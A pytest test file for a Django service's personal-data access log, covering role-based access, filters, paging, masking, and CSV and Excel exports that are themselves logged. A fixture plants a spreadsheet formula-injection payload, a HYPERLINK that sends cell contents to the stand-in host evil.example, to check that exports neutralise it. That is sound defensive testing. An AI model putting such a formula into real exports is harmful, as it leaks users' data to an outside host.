"""The access log of personal data (访问日志): read by administrators and auditors only,
on the page and through the API, filtered by user, record, access and local days,
paged, exported as CSV or Excel (read back here) — and every export is itself logged."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime

import openpyxl
import pytest
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from postdesk.core.models import AccessLogEntry
from postdesk.core.services import access_log_record
from postdesk.org.models import Role, User
from postdesk.org.rules import can_view_access_log
from postdesk.org.selectors import ACCESS_LOG_PAGE_SIZE

ALLOWED = ("admin", "auditor1")
REFUSED = ("agent1", "lead1", "director1", "branch1")
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def local(text: str) -> datetime:
    return timezone.make_aware(datetime.fromisoformat(text))


def entry_at(at: datetime, *, actor: User, subject_type: str, subject_id: str, **more: str):
    """An entry written at `at` (the model stamps `now`; rows are only ever inserted)."""
    values = {
        "actor_id": actor.pk,
        "actor_username": actor.username,
        "subject_type": subject_type,
        "subject_id": subject_id,
        "subject_label": more.get("label", ""),
        "what": more.get("what", "view"),
        "detail": more.get("detail", ""),
        "at": connection.ops.adapt_datetimefield_value(at),
        "ip": more.get("ip"),
    }
    table = AccessLogEntry._meta.db_table
    columns = ", ".join(connection.ops.quote_name(name) for name in values)
    marks = ", ".join(["%s"] * len(values))
    with connection.cursor() as cursor:
        cursor.execute(
            f"INSERT INTO {table} ({columns}) VALUES ({marks})",  # our names; values are params
            list(values.values()),
        )


@pytest.fixture
def log(staff):
    """Five entries over two local days (the month's turn, Asia/Shanghai)."""
    agent, branch = staff["agent1"], staff["branch1"]
    entry_at(local("2026-11-30T23:59:00"), actor=agent, subject_type="customer",
             subject_id="7", label="张三", ip="10.0.0.1")  # fmt: skip
    entry_at(local("2026-12-01T00:00:00"), actor=agent, subject_type="work_order",
             subject_id="20261201000001", label="李* 138****5678", detail="caller")  # fmt: skip
    entry_at(local("2026-12-01T09:30:00"), actor=branch, subject_type="work_order",
             subject_id="20261201000002", label=EVIL, detail="caller")  # fmt: skip
    entry_at(local("2026-12-01T10:00:00"), actor=agent, subject_type="customer",
             subject_id="7", label="张三", what="export", detail="q=张")  # fmt: skip
    entry_at(local("2026-12-02T08:00:00"), actor=branch, subject_type="notice",
             subject_id="TZ0001", label="王* 139****0000", detail="contact")  # fmt: skip
    return staff


# ----------------------------------------------------------------- who may read it


EXPECTED = {
    Role.AGENT: False,
    Role.LEAD: False,
    Role.DIRECTOR: False,
    Role.HANDLER: False,
    Role.ADMIN: True,
    Role.AUDITOR: True,
}


def test_the_predicate_for_every_role():
    assert set(EXPECTED) == set(Role.values)
    for role, allowed in EXPECTED.items():
        user = User(username="u", role=role, is_active=True)
        assert can_view_access_log(user) is allowed, role
        user.is_active = False
        assert can_view_access_log(user) is False, role
    assert can_view_access_log(User(username="s", role="", is_superuser=True, is_active=True))


@pytest.mark.django_db
def test_the_page_by_role(log, client_for):
    for username in ALLOWED:
        response = client_for(username).get("/org/access-log/")
        assert response.status_code == 200, username
        assert response.context["result"].count == 5
    for username in REFUSED:
        response = client_for(username).get("/org/access-log/")
        assert response.status_code == 403, username
        assert "只有管理员和审计员可以查看访问日志。" in response.content.decode()
        assert "张" not in response.content.decode()
        assert client_for(username).post("/org/access-log/export/").status_code == 403
    anonymous = Client().get("/org/access-log/")
    assert anonymous.status_code == 302 and anonymous["Location"].startswith(reverse("login"))
    assert Client().post("/org/access-log/export/").status_code == 302
    assert AccessLogEntry.objects.count() == 5  # no refused export was logged


@pytest.mark.django_db
def test_the_api_by_role(log, api_for):
    for exports, username in enumerate(ALLOWED):
        api = api_for(username)
        response = api.get("/api/v1/access-log")
        assert response.status_code == 200, username
        assert response.json()["count"] == 5 + exports  # each export is logged
        export = api.post("/api/v1/access-log/export", {}, content_type="application/json")
        assert export.status_code == 200, username
    for username in REFUSED:
        api = api_for(username)
        response = api.get("/api/v1/access-log")
        assert response.status_code == 403, username
        assert response.json()["code"] == "permission_denied"
        export = api.post("/api/v1/access-log/export", {}, content_type="application/json")
        assert export.status_code == 403, username
    for method in ("get", "post"):
        path = "/api/v1/access-log" + ("/export" if method == "post" else "")
        response = getattr(Client(), method)(path, content_type="application/json")
        assert response.status_code == 401, method
        assert response.json()["code"] == "not_authenticated"
    assert AccessLogEntry.objects.filter(subject_type="access_log").count() == 2


@pytest.mark.django_db
def test_the_nav_shows_it_to_those_who_may_read_it(org, client_for):
    for username in (*ALLOWED, *REFUSED):
        html = client_for(username).get("/").content.decode()
        assert ('data-nav="access_log"' in html) is (username in ALLOWED), username


@pytest.mark.django_db
def test_an_auditor_sees_no_work_order_nor_customer_and_writes_none(org, api_for):
    from postdesk.org.selectors import scope_for

    auditor = User.objects.get(username="auditor1")
    scope = scope_for(user=auditor)
    assert not scope.everything and not scope.unit_ids
    api = api_for("auditor1")
    assert api.get("/api/v1/workorders/").json()["count"] == 0
    assert api.get("/api/v1/customers/").json()["count"] == 0
    created = api.post(
        "/api/v1/workorders/",
        {"type": "complaint", "caller_phone": "13812345678", "description": "x"},
        content_type="application/json",
    )
    assert created.status_code in {400, 403}


# ----------------------------------------------------------------------- filters


def _ids(api: Client, query: str) -> list[str]:
    response = api.get(f"/api/v1/access-log?{query}")
    assert response.status_code == 200, response.content
    body = response.json()
    assert body["count"] == len(body["results"])
    return [row["subject_id"] for row in body["results"]]


@pytest.mark.django_db
def test_filters(log, api_for):
    api = api_for("auditor1")
    # newest first
    assert _ids(api, "") == ["TZ0001", "7", "20261201000002", "20261201000001", "7"]
    assert _ids(api, "user=branch1") == ["TZ0001", "20261201000002"]
    assert _ids(api, "user=nobody") == []
    assert _ids(api, "subject_type=customer") == ["7", "7"]
    assert _ids(api, "subject_type=work_order&subject_id=20261201000002") == ["20261201000002"]
    assert _ids(api, "what=export") == ["7"]
    # local days, both ends included: 23:59 on the 30th is not the 1st, midnight is
    assert _ids(api, "from=2026-12-01&to=2026-12-01") == ["7", "20261201000002", "20261201000001"]
    assert _ids(api, "to=2026-11-30") == ["7"]
    assert _ids(api, "from=2026-12-02") == ["TZ0001"]
    assert _ids(api, "user=agent1&from=2026-12-01&what=view") == ["20261201000001"]

    row = api.get("/api/v1/access-log?subject_type=customer&what=view").json()["results"][0]
    assert row == {
        "id": row["id"],
        "at": "2026-11-30T23:59:00+08:00",
        "user": "agent1",
        "subject_type": "customer",
        "subject_id": "7",
        "subject_label": "张*",  # the log names whose data was seen, masked
        "what": "view",
        "detail": "",
        "ip": "10.0.0.1",
    }


@pytest.mark.django_db
def test_paging(staff, api_for, client_for):
    agent = staff["agent1"]
    access_log_record(
        actor=agent,
        subject_type="customer",
        subjects=[(str(n), f"客户{n}") for n in range(ACCESS_LOG_PAGE_SIZE + 3)],
        what="view",
    )
    api = api_for("admin")
    first = api.get("/api/v1/access-log").json()
    second = api.get("/api/v1/access-log?page=2").json()
    assert first["count"] == second["count"] == ACCESS_LOG_PAGE_SIZE + 3
    assert (len(first["results"]), len(second["results"])) == (ACCESS_LOG_PAGE_SIZE, 3)
    assert not {r["id"] for r in first["results"]} & {r["id"] for r in second["results"]}
    assert api.get("/api/v1/access-log?page=3").json()["results"] == []
    far = api.get("/api/v1/access-log?page=1000000000000000000")
    assert far.status_code == 400 and "page" in far.json()["fields"]

    page = client_for("admin").get("/org/access-log/?user=agent1&page=2")
    html = page.content.decode()
    assert page.status_code == 200 and "2 / 2" in html
    assert 'href="?user=agent1&amp;page=1"' in html  # the pager keeps the filters
    assert len(page.context["rows"]) == 3


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("from=2026-13-01", "from"),
        ("to=yesterday", "to"),
        ("from=2026-12-02&to=2026-12-01", "to"),
        ("from=9999-01-01", "from"),
        ("what=peek", "what"),
        ("subject_type=Bad%20Type!", "subject_type"),
        ("user=" + "u" * 151, "user"),
        ("subject_id=" + "9" * 65, "subject_id"),
        ("page=abc", "page"),
    ],
)
def test_bad_filters_are_400_with_the_field(log, api_for, query, field):
    response = api_for("admin").get(f"/api/v1/access-log?{query}")
    assert response.status_code == 400, response.content
    body = response.json()
    assert body["code"] == "validation_error"
    assert field in body["fields"], body
    export = api_for("admin").post(
        "/api/v1/access-log/export",
        dict([query.split("=", 1)]) if field != "page" else {"format": "pdf"},
        content_type="application/json",
    )
    assert export.status_code == 400
    assert not AccessLogEntry.objects.filter(subject_type="access_log").exists()


@pytest.mark.django_db
def test_bad_filters_on_the_page_are_said_in_chinese(log, client_for):
    response = client_for("auditor1").get("/org/access-log/?from=2026-12-02&to=2026-12-01")
    assert response.status_code == 400
    html = response.content.decode()
    assert "结束日期早于开始日期。" in html
    assert 'value="2026-12-02"' in html  # the form keeps what was typed


# ------------------------------------------------------------------------ export


def read_csv(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


HEADER = ["时间", "用户", "记录类型", "记录编号", "记录", "访问方式", "说明", "IP 地址"]


@pytest.mark.django_db
def test_the_csv_export_read_back_and_itself_logged(log, api_for):
    response = api_for("auditor1").post(
        "/api/v1/access-log/export",
        {"format": "csv", "subject_type": "work_order", "from": "2026-12-01"},
        content_type="application/json",
        REMOTE_ADDR="10.7.7.7",
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="access-log-' in response["Content-Disposition"]
    rows = read_csv(response.content)
    assert rows[0] == HEADER
    assert rows[1:] == [
        ["2026-12-01 09:30:00", "branch1", "工单", "20261201000002", "'" + EVIL, "完整查看",
         "来电人", ""],
        ["2026-12-01 00:00:00", "agent1", "工单", "20261201000001", "李* 138****5678",
         "完整查看", "来电人", ""],
    ]  # fmt: skip

    logged = AccessLogEntry.objects.get(subject_type="access_log")
    assert (logged.actor_username, logged.what, logged.subject_id) == ("auditor1", "export", "csv")
    assert logged.subject_label == "subject_type=work_order from=2026-12-01"
    assert (logged.detail, logged.ip) == ("rows=2", "10.7.7.7")
    # and the log shows it in the reader's words
    again = api_for("admin").get("/api/v1/access-log?subject_type=access_log").json()
    assert again["count"] == 1 and again["results"][0]["user"] == "auditor1"


@pytest.mark.django_db
def test_the_excel_export_from_the_page_read_back(log, client_for):
    client = client_for("admin")
    page = client.get("/org/access-log/?user=agent1")
    assert 'name="user" value="agent1"' in page.content.decode()  # the export's filters
    response = client.post("/org/access-log/export/", {"user": "agent1", "format": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = book.active
    assert sheet.title == "访问日志"
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADER
    assert [row[3] for row in rows[1:]] == ["7", "20261201000001", "7"]
    first = rows[1]
    assert first[0] == datetime(2026, 12, 1, 10, 0)  # a local date-time, not text
    assert first[1:7] == ("agent1", "客户", "7", "张*", "导出", "检索词=张")
    logged = AccessLogEntry.objects.get(subject_type="access_log")
    assert (logged.subject_id, logged.subject_label) == ("xlsx", "user=agent1")

    evil = client.post("/org/access-log/export/", {"user": "branch1", "format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(evil.content)).active
    cell = next(c for c in sheet["E"] if c.value == EVIL)
    assert cell.data_type == "s" and cell.quotePrefix  # text, shown as typed
    assert client.get("/org/access-log/export/").status_code == 405  # exports are POSTs


@pytest.mark.django_db
def test_the_page_is_in_chinese(log, client_for):
    html = client_for("auditor1").get("/org/access-log/").content.decode()
    text = re.sub(r"<[^>]+>", " ", html)  # what a reader sees (no attribute values)
    assert "张三" not in html
    for word in ("访问日志", "共 5 条记录", "2026-11-30 23:59:00", "张*", "来电人", "联系人",
                 "通知单", "完整查看", "导出 CSV（将记录）"):  # fmt: skip
        assert word in text, word
    for english in ("Access log", "work_order", "caller", "full view", "+08:00", "access_log"):
        assert english not in text, english
